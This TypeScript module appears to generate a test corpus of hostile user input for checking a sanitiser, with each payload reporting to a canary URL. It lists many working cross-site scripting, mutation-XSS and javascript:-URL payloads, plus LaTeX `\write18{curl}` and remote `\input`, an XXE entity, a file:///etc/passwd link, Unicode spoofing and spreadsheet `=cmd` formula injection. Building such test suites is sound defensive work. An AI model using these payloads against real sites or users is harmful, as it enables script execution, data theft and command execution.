/**
 * Words that a hostile member could send: every way known to us of making text act (WHATWG HTML's elements and event
 * handlers, CommonMark's links and images, URL schemes, LaTeX commands that reach out, Unicode that reads as something
 * else). Made by combining parts, so that the list is long and still read at a glance.
 */

/** @param canary a URL on another host whose requests are counted; what runs also raises the flag `harmed` */
export function hostileWords(canary: string): string[] {
  let count = 0;
  /** Runs as a script in most contexts, and each names itself in the canary's log. */
  const script = () => `globalThis.harmed=1;fetch('${canary}/ran/${++count}')`;
  const url = () => `${canary}/asked/${++count}`;
  return [
    ...markup(script, url),
    ...brokenMarkup(script, url),
    ...links(script, url),
    ...images(url),
    ...formulas(script, url),
    ...disguised(script),
  ].filter((one, at, all) => all.indexOf(one) === at);
}

type Make = () => string;

const HANDLERS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart', 'onpointerenter', 'onbeforetoggle'];

/** Elements that ask something of the network or run handlers as soon as they stand in a document. */
function markup(script: Make, url: Make): string[] {
  const elements = [
    (rest: string) => `<img src=x ${rest}>`,
    (rest: string) => `<svg ${rest}><animate attributeName=x dur=1s ${rest} /></svg>`,
    (rest: string) => `<body ${rest}>`,
    (rest: string) => `<details open ${rest}><summary>x</summary></details>`,
    (rest: string) => `<input autofocus ${rest}>`,
    (rest: string) => `<video><source src=x ${rest}></video>`,
    (rest: string) => `<audio src=x ${rest}></audio>`,
    (rest: string) => `<iframe src=about:blank ${rest}></iframe>`,
    (rest: string) => `<object data=x ${rest}></object>`,
    (rest: string) => `<marquee ${rest}>x</marquee>`,
    (rest: string) => `<p popover id=p ${rest}>x</p>`,
    (rest: string) => `<style>@keyframes x{}</style><b style="animation-name:x" ${rest}>x</b>`,
  ];
  const handled = elements.flatMap((element) => HANDLERS.map((handler) => element(`${handler}="${script()}"`)));
  const asking = [
    `<script>${script()}</script>`,
    `<script src="${url()}"></script>`,
    `<script type=module>import('${url()}')</script>`,
    `<script type=importmap>{"imports":{"x":"${url()}"}}</script>`,
    `<img src="${url()}">`,
    `<img srcset="${url()} 1x">`,
    `<picture><source srcset="${url()}"><img></picture>`,
    `<svg><image href="${url()}"/></svg>`,
    `<svg><use href="${url()}#x"/></svg>`,
    `<svg><script href="${url()}"/></svg>`,
    `<svg><script>${script()}</script></svg>`,
    `<svg><foreignObject><iframe src="${url()}"></iframe></foreignObject></svg>`,
    `<svg><a href="javascript:${script()}"><text y=9>x</text></a></svg>`,
    `<math><mtext><img src=x onerror="${script()}"></mtext></math>`,
    `<math href="javascript:${script()}">x</math>`,
    `<math><annotation-xml encoding="text/html"><script>${script()}</script></annotation-xml></math>`,
    `<iframe src="${url()}"></iframe>`,
    `<iframe src="javascript:${script()}"></iframe>`,
    `<iframe srcdoc="<script>${script()}</script>"></iframe>`,
    `<frameset><frame src="${url()}"></frameset>`,
    `<object data="${url()}"></object>`,
    `<object data="data:text/html,<script>${script()}</script>"></object>`,
    `<embed src="${url()}">`,
    `<embed src="javascript:${script()}">`,
    `<link rel=stylesheet href="${url()}">`,
    `<link rel=preload as=image href="${url()}">`,
    `<link rel=prefetch href="${url()}">`,
    `<link rel=dns-prefetch href="${url()}">`,
    `<link rel=icon href="${url()}">`,
    `<link rel=import href="${url()}">`,
    `<link rel=manifest href="${url()}">`,
    `<style>@import '${url()}';</style>`,
    `<style>*{background:url(${url()})}</style>`,
    `<style>@font-face{font-family:x;src:url(${url()})}*{font-family:x}</style>`,
    `<b style="background:url('${url()}')">x</b>`,
    `<b style="list-style:url(${url()});display:list-item">x</b>`,
    `<b style="cursor:url(${url()}),auto;position:fixed;inset:0">x</b>`,
    `<b style="content:url(${url()})">x</b>`,
    `<table background="${url()}"><tr><td background="${url()}">x</table>`,
    `<meta http-equiv=refresh content="0;url=${url()}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${script()}">`,
    `<meta http-equiv=Content-Security-Policy content="default-src *">`,
    `<base href="${url()}/">`,
    `<base target=_top>`,
    `<form action="${url()}"><button autofocus>Save note</button></form>`,
    `<form action="javascript:${script()}"><input type=submit></form>`,
    `<button formaction="javascript:${script()}">Reply</button>`,
    `<a href="javascript:${script()}">x</a>`,
    `<a href="${url()}" ping="${url()}">x</a>`,
    `<area href="javascript:${script()}">`,
    `<video poster="${url()}" autoplay></video>`,
    `<video src="${url()}" autoplay></video>`,
    `<audio src="${url()}" autoplay></audio>`,
    `<track src="${url()}" default>`,
    `<input type=image src="${url()}">`,
    `<applet code="${url()}"></applet>`,
    `<portal src="${url()}"></portal>`,
    `<fencedframe src="${url()}"></fencedframe>`,
    `<template shadowrootmode=open><img src="${url()}"></template>`,
    `<xml src="${url()}"></xml>`,
    `<?xml-stylesheet href="${url()}"?>`,
    `<!DOCTYPE x [<!ENTITY e SYSTEM "${url()}">]><x>&e;</x>`,
  ];
  return [...handled, ...asking];
}

/** Markup that only a lenient parser, or one that cleans and parses again, takes for some. */
function brokenMarkup(script: Make, url: Make): string[] {
  const core = () => `<img src=x onerror=${script()}>`;
  const around: ((inner: string) => string)[] = [
    (inner) => inner.toUpperCase(),
    (inner) => inner.replace('<img', '<IMG\u000c'),
    (inner) => inner.replace(' src', '/src'),
    (inner) => inner.replace('<', '<\u0000'),
    (inner) => inner.replace('onerror', 'on\u0000error'),
    (inner) => inner.replace('=x', '=`x`'),
    (inner) => inner.slice(0, -1),
    (inner) => `${inner.slice(0, -1)}//`,
    (inner) => `<<${inner}`,
    (inner) => `"><${inner.slice(1)}`,
    (inner) => `'>${inner}`,
    (inner) => `-->${inner}`,
    (inner) => `<!-- ${inner} --!>${inner}`,
    (inner) => `<![CDATA[>${inner}]]>`,
    (inner) => `]]>${inner}`,
    (inner) => `<noscript><p title="</noscript>${inner}">`,
    (inner) => `<style><a title="</style>${inner}">`,
    (inner) => `<title><a title="</title>${inner}">`,
    (inner) => `<textarea></textarea>${inner}`,
    (inner) => `<xmp><p title="</xmp>${inner}">`,
    (inner) => `<noembed><p title="</noembed>${inner}">`,
    (inner) => `<iframe><p title="</iframe>${inner}">`,
    (inner) => `<plaintext>${inner}`,
    (inner) => `<template>${inner}</template>`,
    (inner) => `<svg><style>${inner}</style></svg>`,
    (inner) => `<svg></p><style><a id="</style>${inner}">`,
    (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}`,
    (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
    (inner) => `<select><option>${inner}</select>`,
    (inner) => `<scr<script>ipt>${inner}</scr</script>ipt>`,
    (inner) => inner.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
    (inner) => inner.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
    (inner) => inner.replaceAll('<', '&#x3c').replaceAll('>', '&#x3e'),
    (inner) => inner.replaceAll('<', '&amp;lt;'),
    (inner) => inner.replaceAll('<', '\\u003c'),
    (inner) => inner.replaceAll('<', '%3C'),
    (inner) => inner.replaceAll('<', '\\<'),
    (inner) => `\`${inner}`,
    (inner) => `\`\`\`html\n${inner}\n\`\`\``,
    (inner) => `\`\`\`"><script>\n${inner}`,
    (inner) => `    ${inner}`,
    (inner) => `> - 1. ${inner}`,
    (inner) => `| ${inner} | b |\n| - | - |\n| ${inner} | c |`,
    (inner) => `**${inner}**_${inner}_`,
    (inner) => `# ${inner}`,
    (inner) => `[^1]\n\n[^1]: ${inner}`,
    (inner) => `<details>\n\n${inner}\n\n</details>`,
    (inner) => `${inner}\n${inner}\r\n${inner}`,
    (inner) => `{{constructor.constructor('${inner.length}')()}}${inner}`,
    (inner) => `\${${inner}}`,
    (inner) => `<%= ${inner} %>`,
    (inner) => `__html:${inner}`,
  ];
  return [
    ...around.map((wrap) => wrap(core())),
    `<a id=harmed><a id=harmed name=harmed href="${url()}">`,
    '<form id=document><input name=cookie><input name=body></form>',
    '<img name=getElementById><img name=querySelector>',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=harmed=1>"},"type":"img","props":{"src":"x"}}',
  ];
}

/** Ways of writing a link in Markdown. */
const LINKS: ((to: string) => string)[] = [
  (to) => `[x](${to})`,
  (to) => `[x](<${to}>)`,
  (to) => `<${to}>`,
  (to) => `[x][r]\n\n[r]: ${to}`,
  (to) => `[x](${to} "onmouseover=1")`,
  (to) => `[![x](${to})](${to})`,
];

function links(script: Make, url: Make): string[] {
  const code = () => script().replaceAll(/[;()']/g, (sign) => `%${sign.charCodeAt(0).toString(16)}`);
  const addresses = [
    () => `javascript:${code()}`,
    () => `JaVaScRiPt:${code()}`,
    () => `\u0001javascript:${code()}`,
    () => `\u2028javascript:${code()}`,
    () => `java&Tab;script:${code()}`,
    () => `java&NewLine;script:${code()}`,
    () => `javascript&colon;${code()}`,
    () => `&#106;avascript:${code()}`,
    () => `&#x6A;&#x61;vascript:${code()}`,
    () => `javascript%3A${code()}`,
    () => `java\\script:${code()}`,
    () => `javascript://x.invalid/%0a${code()}`,
    () => `vbscript:msgbox`,
    () => `data:text/html,%3Cscript%3E${code()}%3C/script%3E`,
    () => `data:text/html;base64,${btoa(`<script>${script()}</script>`)}`,
    () => `data:image/svg+xml,%3Csvg%20onload=${code()}%3E`,
    () => `blob:${url()}`,
    () => `filesystem:${url()}`,
    () => `view-source:${url()}`,
    () => `file:///etc/passwd`,
    () => `about:blank#${code()}`,
    () => `chrome://settings`,
    () => `chrome-extension://x/src/library/index.html`,
    () => `moz-extension://x/src/library/index.html`,
    () => `intent://x#Intent;scheme=http;end`,
    () => `ms-settings:x`,
    () => `ws://${new URL(url()).host}/x`,
    () => `//${new URL(url()).host}/x`,
    () => `https://user:password@x.invalid/`,
    () => `https://еxample.invalid/`,
    () => `https://x.invalid/"onmouseover="${code()}`,
    () => `https:/\\x.invalid/`,
  ];
  return addresses.flatMap((address) => LINKS.map((link) => link(address())));
}

function images(url: Make): string[] {
  const forms: ((to: string) => string)[] = [
    (to) => `![x](${to})`,
    (to) => `![x](${to} "t")`,
    (to) => `![x][r]\n\n[r]: ${to}`,
    (to) => `[![x](${to})](https://x.invalid/)`,
    (to) => `![](${to})`,
    (to) => `!\\[x](${to})`,
    (to) => `> ![x](${to})`,
    (to) => `- ![x](${to})`,
    (to) => `# ![x](${to})`,
    (to) => `![a ![b](${to})](${to})`,
  ];
  return forms.flatMap((form) => [
    form(url()),
    form(url().replace('http:', 'HTTP:')),
    form(url().slice('http:'.length)),
  ]);
}

/** LaTeX that reaches for links, pictures, attributes, definitions without end, and the characters of markup. */
function formulas(script: Make, url: Make): string[] {
  const bodies = [
    `\\href{javascript:${script()}}{x}`,
    `\\url{javascript:${script()}}`,
    `\\includegraphics{${url()}}`,
    `\\includegraphics[height=1em,alt=x]{${url()}}`,
    `\\htmlId{x}{x}`,
    `\\htmlClass{margin}{x}`,
    `\\htmlStyle{background:url(${url()})}{x}`,
    `\\htmlData{onload=${script()}}{x}`,
    `\\text{<img src=x onerror=${script()}>}`,
    `\\text{</math><script>${script()}</script>}`,
    `\\textcolor{red;background:url(${url()})}{x}`,
    `\\color{url(${url()})}x`,
    `\\rule{9999em}{9999em}`,
    `\\def\\a{\\a\\a}\\a`,
    `\\gdef\\sum{x}\\sum`,
    `\\unicode{x3c}script\\unicode{x3e}`,
    `\\char"3Cscript\\char"3E`,
    `\\class{x}{x}\\cssId{y}{y}\\require{html}`,
    `\\write18{curl ${url()}}`,
    `\\input{${url()}}`,
    `\\raisebox{9999em}{x}`,
    `<script>${script()}</script>`,
    `"><img src=x onerror=${script()}>`,
  ];
  return bodies.flatMap((body) => [`$${body}$`, `$$\n${body}\n$$`]);
}

/** Text that reads as other text, or that a program takes for its own signs. */
function disguised(script: Make): string[] {
  const tag = () => `<script>${script()}</script>`;
  const signs = [
    ['\u202e', 'right-to-left override'],
    ['\u2066', 'isolate that never ends'],
    ['\u2069\u2069\u2069', 'ends of isolates that never began'],
    ['\u200b', 'zero width space'],
    ['\u2060', 'word joiner'],
    ['\ufeff', 'byte order mark'],
    ['\u0000', 'null'],
    ['\u001b[31m', 'terminal escape'],
    ['\u0085', 'next line'],
    ['\u2028', 'line separator'],
    ['\u2029', 'paragraph separator'],
    ['\ud83d', 'half of a pair'],
    ['\udc00', 'the other half'],
    ['\ufffe', 'noncharacter'],
    ['\u{e0001}\u{e0041}', 'tag characters'],
    ['\u0335'.repeat(300), 'a tower of marks'],
    ['\u115f\u3164', 'letters that cannot be seen'],
    ['\ufdfd', 'a very wide sign'],
  ] as const;
  return [
    ...signs.flatMap(([sign, name]) => [`${name} ${sign}${tag()}`, tag().split('').join(sign).slice(0, 4000)]),
    tag().replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
    tag().replaceAll('<', '\u2039').replaceAll('>', '\u203a'),
    tag().replaceAll('<', '\ufe64').replaceAll('>', '\ufe65'),
    tag().replaceAll('<', '\u{e003c}').replaceAll('>', '\u{e003e}'),
    tag().replaceAll('s', '\u017f').replaceAll('k', '\u212a'),
    `+ADw-script+AD4-${script()}+ADw-/script+AD4-`,
    `\u00c0\u00bcscript\u00c0\u00be${script()}`,
    `=HYPERLINK("x","${tag()}")`,
    `=cmd|' /C calc'!A0 ${tag()}`,
  ];
}
